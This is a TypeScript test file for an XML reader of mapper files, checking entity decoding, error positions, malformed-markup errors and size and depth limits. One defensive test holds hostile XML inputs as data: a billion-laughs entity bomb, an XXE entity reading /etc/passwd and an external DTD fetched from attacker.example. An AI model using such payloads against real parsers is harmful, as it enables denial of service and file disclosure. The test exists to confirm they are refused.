import assert from "node:assert/strict";
import { readXml } from "./xml_reader.ts";
import { attributePosition, type XmlElement, type XmlNode } from "./xml_document.ts";
import { XmlEntityError, XmlSyntaxError } from "./errors.ts";

const texts = (el: XmlElement): string[] =>
  el.children.filter((n): n is Extract<XmlNode, { kind: "text" }> => n.kind === "text").map((n) =>
    n.text
  );
const attr = (el: XmlElement, name: string) => el.attributes.find((a) => a.name === name);

Deno.test("reader: prolog, both mapper doctypes, comments and PIs skipped, CDATA kept verbatim", () => {
  for (
    const doctype of [
      '<!DOCTYPE mapper PUBLIC "-//dbvisitor.net//DTD Mapper 1.0//EN" "https://www.dbvisitor.net/schema/dbvisitor-mapper.dtd">',
      '<!DOCTYPE mapper PUBLIC "-//mybatis.org//DTD Mapper 3.0//EN" "http://mybatis.org/dtd/mybatis-3-mapper.dtd">',
    ]
  ) {
    const doc = readXml(
      `\uFEFF<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<!-- top -->\n${doctype}\n<?pi data?>\n` +
        `<mapper namespace='n'><!-- inner --><?x y?>a<![CDATA[<b> & "c" ]]>d</mapper>\n<!-- end -->\n`,
    );
    assert.equal(doc.doctype?.name, "mapper");
    assert.match(doc.doctype?.publicId ?? "", /DTD Mapper/);
    assert.match(doc.doctype?.systemId ?? "", /\.dtd$/);
    assert.equal(doc.root.name, "mapper");
    assert.equal(attr(doc.root, "namespace")?.value, "n");
    assert.deepEqual(texts(doc.root), ["a", '<b> & "c" ', "d"]);
    assert.deepEqual(doc.root.children.map((n) => n.kind === "text" && n.cdata), [
      false,
      true,
      false,
    ]);
  }
});

Deno.test("reader: predefined entities and numeric references, in text and attributes", () => {
  const doc = readXml(
    `<a t="&lt;&gt;&amp;&quot;&apos;&#65;&#x42;&#x1F600;">&lt;&gt;&amp;&quot;&apos;&#9;&#x263A;</a>`,
  );
  assert.equal(attr(doc.root, "t")?.value, `<>&"'AB😀`);
  assert.deepEqual(texts(doc.root), [`<>&"'\t☺`]);
});

Deno.test("reader: attribute values normalise literal white space; references survive", () => {
  const doc = readXml("<a t=\"x\n\ty\" u = '1&#10;2'/>");
  assert.equal(attr(doc.root, "t")?.value, "x  y");
  assert.equal(attr(doc.root, "u")?.value, "1\n2");
});

Deno.test("reader: positions of elements, attributes and text; CRLF counts as one line end", () => {
  const doc = readXml('<a>\r\n  <b x="1"\r\n     y="2">text</b>\r\n</a>', { file: "f.xml" });
  const b = doc.root.children.find((n) => n.kind === "element") as XmlElement;
  assert.deepEqual([b.line, b.column], [2, 3]);
  assert.deepEqual([attr(b, "x")?.line, attr(b, "x")?.column], [2, 9]);
  assert.deepEqual([attr(b, "y")?.line, attr(b, "y")?.column], [3, 9]);
  const text = b.children[0];
  assert.deepEqual([text?.line, text?.column], [3, 12]);
  assert.equal(doc.file, "f.xml");
  assert.ok(!doc.text.includes("\r"));
});

Deno.test("reader: attributePosition walks references in the raw value", () => {
  const a = attr(readXml('<a t="a &amp;&amp; b"/>').root, "t")!;
  assert.equal(a.value, "a && b");
  assert.deepEqual(attributePosition(a, 5), { line: 1, column: 20 });
  assert.deepEqual(attributePosition(a, 0), { line: 1, column: 7 });
});

// [document, error class, line, column, message]
const MALFORMED: [string, typeof XmlSyntaxError, number, number, RegExp][] = [
  ["", XmlSyntaxError, 1, 1, /no root element/],
  ["   \n  ", XmlSyntaxError, 2, 3, /no root element/],
  ["text", XmlSyntaxError, 1, 1, /expected the root element/],
  ["<a>", XmlSyntaxError, 1, 4, /<a> \(line 1\) is not closed/],
  ["<a>\n<b></a>", XmlSyntaxError, 2, 4, /<\/a> does not close <b> \(line 2\)/],
  ["<a></a><b/>", XmlSyntaxError, 1, 8, /text after the root element/],
  ["<a/>junk", XmlSyntaxError, 1, 5, /text after the root element/],
  ["</a>", XmlSyntaxError, 1, 1, /unexpected <\/a>/],
  ["<a></a x>", XmlSyntaxError, 1, 8, /not closed with >/],
  ["<a b='1' b='2'/>", XmlSyntaxError, 1, 10, /"b" is given twice/],
  ["<a b=1/>", XmlSyntaxError, 1, 6, /must be quoted/],
  ["<a b/>", XmlSyntaxError, 1, 5, /expected = after/],
  ['<a b="1"c="2"/>', XmlSyntaxError, 1, 9, /expected a space/],
  ['<a b="1/>', XmlSyntaxError, 1, 6, /not closed with "/],
  ["<a b='<'/>", XmlSyntaxError, 1, 7, /< in an attribute value/],
  ["<a>1 < 2</a>", XmlSyntaxError, 1, 6, /expected a tag name/],
  ["<a>a & b</a>", XmlSyntaxError, 1, 6, /bare &/],
  ["<a>&amp</a>", XmlSyntaxError, 1, 4, /bare &/],
  ["<a>]]></a>", XmlSyntaxError, 1, 4, /"\]\]>" in text/],
  ["<a>&#0;</a>", XmlSyntaxError, 1, 4, /not a character XML allows/],
  ["<a>&#xD800;</a>", XmlSyntaxError, 1, 4, /not a character XML allows/],
  ["<a>&#x110000;</a>", XmlSyntaxError, 1, 4, /not a character XML allows/],
  ["<a>\u0001</a>", XmlSyntaxError, 1, 4, /a character that XML does not allow/],
  ["<a>\uD800x</a>", XmlSyntaxError, 1, 4, /a character that XML does not allow/],
  ["<a><!-- a -- b --></a>", XmlSyntaxError, 1, 11, /"--" inside a comment/],
  ["<a><!-- open</a>", XmlSyntaxError, 1, 4, /comment is not closed/],
  ["<a><![CDATA[x</a>", XmlSyntaxError, 1, 4, /CDATA section is not closed/],
  ["<![CDATA[x]]><a/>", XmlSyntaxError, 1, 1, /CDATA section outside the root/],
  ["<a><?xml version='1.0'?></a>", XmlSyntaxError, 1, 4, /declaration must come first/],
  ["<?xml version='2'?><a/>", XmlSyntaxError, 1, 1, /malformed XML declaration/],
  ["<?xml version='1.0'<a/>", XmlSyntaxError, 1, 1, /declaration is not closed/],
  ["<a/><!DOCTYPE a>", XmlSyntaxError, 1, 5, /only one DOCTYPE/],
  ["<!DOCTYPE a><!DOCTYPE a><a/>", XmlSyntaxError, 1, 13, /only one DOCTYPE/],
  [
    "<!DOCTYPE a [<!ELEMENT a ANY>]><a/>",
    XmlSyntaxError,
    1,
    14,
    /internal DTD subset are not supported/,
  ],
  ["<!DOCTYPE a [<!ATTLIST a b CDATA 'x'>]><a/>", XmlSyntaxError, 1, 14, /not supported/],
  ["<!DOCTYPE a PUBLIC 'x'><a/>", XmlSyntaxError, 1, 23, /expected a quoted identifier/],
  ["<a><!ELEMENT b></a>", XmlSyntaxError, 1, 4, /markup declarations/],
  ["<a x='&foo;'/>", XmlEntityError, 1, 7, /the entity &foo; is refused/],
  ["<a>&nbsp;</a>", XmlEntityError, 1, 4, /&nbsp;/],
];

Deno.test("reader: malformed markup → XmlSyntaxError with file, line, column and excerpt", () => {
  for (const [text, type, line, column, message] of MALFORMED) {
    assert.throws(
      () => readXml(text, { file: "bad.xml" }),
      (e: unknown) => {
        assert.ok(e instanceof type, `${JSON.stringify(text)}: ${e}`);
        assert.ok(e instanceof SyntaxError);
        assert.equal(e.file, "bad.xml");
        assert.deepEqual(
          [e.line, e.column],
          [line, column],
          `${JSON.stringify(text)}: ${e.message}`,
        );
        assert.match(e.message, message);
        assert.match(e.message, new RegExp(`\\(bad\\.xml, line ${line}, column ${column}\\)`));
        assert.match(e.excerpt, /\^$/);
        assert.equal(e.code, type === XmlEntityError ? "XML_ENTITY" : "XML_SYNTAX");
        return true;
      },
    );
  }
});

Deno.test("reader: hostile entity files are refused without expansion or fetching", () => {
  const laughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol9 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<lolz>&lol9;</lolz>`;
  const xxe = `<!DOCTYPE mapper [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><mapper>&xxe;</mapper>`;
  const parameter = `<!DOCTYPE mapper [%remote;]><mapper/>`;
  const external =
    `<!DOCTYPE mapper [<!ENTITY % dtd SYSTEM "http://attacker.example/x.dtd"> %dtd;]><mapper/>`;
  const undeclared = `<mapper>&xxe;</mapper>`;
  for (
    const [text, line] of [[laughs, 3], [xxe, 1], [parameter, 1], [external, 1], [
      undeclared,
      1,
    ]] as const
  ) {
    let fetched = false;
    const original = globalThis.fetch;
    globalThis.fetch = () => {
      fetched = true;
      return Promise.reject(new Error("no"));
    };
    try {
      assert.throws(
        () => readXml(text),
        (e: unknown) => e instanceof XmlEntityError && e.line === line && /refused/.test(e.message),
      );
    } finally {
      globalThis.fetch = original;
    }
    assert.equal(fetched, false);
  }
});

Deno.test("reader: nesting is limited, iteratively (no stack overflow at any depth)", () => {
  const deep = (n: number) => "<a>".repeat(n) + "</a>".repeat(n);
  assert.equal(readXml(deep(256)).root.name, "a");
  assert.throws(
    () => readXml(deep(257)),
    (e: unknown) => e instanceof XmlSyntaxError && /deeper than 256/.test(e.message),
  );
  assert.throws(
    () => readXml(deep(200_000)),
    (e: unknown) => e instanceof XmlSyntaxError && e.column === 256 * 3 + 1,
  );
  assert.throws(() => readXml(deep(10), { maxDepth: 5 }), /deeper than 5/);
});

Deno.test("reader: huge attributes, text and sibling counts read in linear time", () => {
  const big = "x".repeat(4_000_000);
  assert.equal(attr(readXml(`<a v="${big}"/>`).root, "v")?.value.length, big.length);
  const refs = "&amp;".repeat(500_000);
  assert.equal(texts(readXml(`<a>${refs}</a>`).root)[0]?.length, 500_000);
  const siblings = "<b/>".repeat(200_000);
  assert.equal(readXml(`<a>${siblings}</a>`).root.children.length, 200_000);
  const attrs = Array.from({ length: 50_000 }, (_, i) => `a${i}="${i}"`).join(" ");
  assert.equal(readXml(`<a ${attrs}/>`).root.attributes.length, 50_000);
  const unclosedAmps = "<a>" + "&".repeat(100_000);
  assert.throws(() => readXml(unclosedAmps), XmlSyntaxError);
  const longLine = "<a>" + "<b/>".repeat(100_000) + "&bad;</a>";
  assert.throws(
    () => readXml(longLine),
    (e: unknown) => e instanceof XmlEntityError && e.column === 400_004,
  );
});
